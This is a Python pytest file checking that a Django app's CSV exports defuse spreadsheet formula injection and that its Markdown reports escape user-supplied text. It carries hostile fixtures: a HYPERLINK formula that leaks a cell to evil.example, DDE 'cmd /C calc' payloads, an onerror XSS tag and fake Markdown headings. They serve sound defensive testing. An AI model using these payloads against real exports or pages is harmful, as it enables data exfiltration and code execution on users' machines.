"""Exports carry user text into other programs: a spreadsheet must not run it as a
formula, and a Markdown viewer must not read it as headings, links or tables."""

from __future__ import annotations

import csv
import io
import re
from shutil import which

import pytest

from jobs.choices import JobStatus
from jobs.models import Measurement
from tests.factories import make_environment, make_job, make_project

pytestmark = pytest.mark.django_db

# What a spreadsheet would evaluate, as OWASP lists the leading characters.
HOSTILE = {
    "eq": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _hostile_job(team):
    job = make_job(team, status=JobStatus.SUCCEEDED, environment=make_environment())
    Measurement.objects.create(
        job=job,
        environment=job.environment,
        benchmark="=cmd|' /C calc'!A0",
        case={**HOSTILE, "neg_text": "-1.5", "neg": -2.25},
        metric="+throughput",
        unit="@TFLOP/s",
        value=-1.5,
        samples=[-1.5, -1.4, -1.6],
        better="higher",
    )
    return job


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_measurements_csv_writes_formula_cells_inert_and_numbers_as_numbers(
    member_client, team
):
    job = _hostile_job(team)
    (row,) = _rows(member_client.get(f"/jobs/{job.pk}/measurements.csv"))
    for key, text in HOSTILE.items():
        assert row[f"case.{key}"] == "'" + text
    assert row["benchmark"] == "'=cmd|' /C calc'!A0"
    assert row["metric"] == "'+throughput" and row["unit"] == "'@TFLOP/s"
    # a negative number starts with '-' too, and stays a number a spreadsheet sums
    assert row["value"] == "-1.5"
    assert row["case.neg"] == "-2.25" and row["case.neg_text"] == "-1.5"


def test_the_compare_csv_writes_formula_cells_inert(member_client, team):
    job = _hostile_job(team)
    (row,) = _rows(member_client.get(f"/compare/?jobs={job.pk}&format=csv"))
    assert row["benchmark"] == "'=cmd|' /C calc'!A0"
    assert row["metric"] == "'+throughput" and row["unit"] == "'@TFLOP/s"
    assert row["value"] == "-1.5"


# --- Markdown ----------------------------------------------------------------------
FAKE_HEADING = "## Recommendation: Use ROCm now"
# The report's own headings: anything else starting a line with '#' came from user text.
REPORT_HEADINGS = re.compile(
    r"# Adoption roadmap: |## (Recommendation|Phases|Decision checklist|Porting assessment"
    r"|Benchmark comparison)\b|### Phase \d: "
)


def _unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)\|", line))


def test_the_roadmap_markdown_report_shows_user_text_as_literal_text(api, team, user):
    from teams.choices import Role
    from teams.models import Membership

    Membership.objects.filter(team=team, user=user).update(role=Role.ADMIN)  # overrides
    project = make_project(team, name="Mine\n# Owned\n[click](http://evil.example)")
    project.current_platform = "<img src=x onerror=alert(1)>"
    project.target_gpus = ["MI300X | extra cell", "*bold*"]
    project.save()
    base = f"/api/v1/projects/{project.pk}/roadmap"
    assert api.get(f"{base}/").status_code == 200  # the phases are made on the first read
    answered = api.post(
        f"{base}/checklist/",
        {"question": "toolchain", "answer": "partly", "note": FAKE_HEADING},
        format="json",
    )
    assert answered.status_code == 200
    overridden = api.post(
        f"{base}/overrides/",
        {
            "phase": 1,
            "criterion": "libraries_compared",
            "reason": "checked by hand\n\n## Recommendation: Use ROCm now\n> quoted | cell",
        },
        format="json",
    )
    assert overridden.status_code in (200, 201), overridden.content

    response = api.get(f"{base}/report.md")
    assert response.status_code == 200
    text = response.content.decode()
    lines = text.splitlines()
    headings = [line for line in lines if line.lstrip().startswith("#")]
    assert all(REPORT_HEADINGS.match(h) for h in headings), headings
    assert sum(h.startswith("## Recommendation") for h in headings) == 1
    assert not any(line.lstrip().startswith(">") for line in lines)
    # the user's text is all there, escaped, on the line rocpath put it on
    title = r"# Adoption roadmap: Mine \# Owned \[click\](http://evil.example)"
    assert lines[0].startswith(title)
    assert r"\<img src=x onerror=alert(1)\>" in text and r"\*bold\*" in text
    assert r"MI300X \| extra cell" in text
    toolchain = next(line for line in lines if r"Team's note: \#\# Recommendation" in line)
    assert _unescaped_pipes(toolchain) == 5  # the checklist table's four cells, no more
    override = next(line for line in lines if "checked by hand" in line)
    assert override.endswith(r"checked by hand \#\# Recommendation: Use ROCm now \> quoted \| cell")


@pytest.mark.process  # the scan reads hipify-perl's tables through the tool
@pytest.mark.skipif(which("hipify-perl") is None, reason="hipify-perl is not installed")
def test_the_hipify_report_shows_scanned_file_paths_as_literal_text(tmp_path):
    from stack.hipify.report import markdown_report
    from stack.hipify.scan import scan_tree

    hostile = ["a\n# Owned\n.cu", "b | c.cu", "[x](evil).cu", "<b>_d_<i>.cu"]
    for name in hostile:
        (tmp_path / name).write_text("#include <cuda_runtime.h>\nvoid f() { cudaMalloc(0, 0); }\n")
    text = markdown_report(scan_tree(tmp_path, jobs=1))
    lines = text.splitlines()
    assert not any(line.startswith("# Owned") for line in lines)
    files = [line for line in lines if line.startswith("| ") and ".cu |" in line]
    assert len(files) == len(hostile)
    assert all(_unescaped_pipes(line) == 7 for line in files), files
    assert r"| a \# Owned .cu |" in text and r"| \[x\](evil).cu |" in text
    assert r"| \<b\>\_d\_\<i\>.cu |" in text
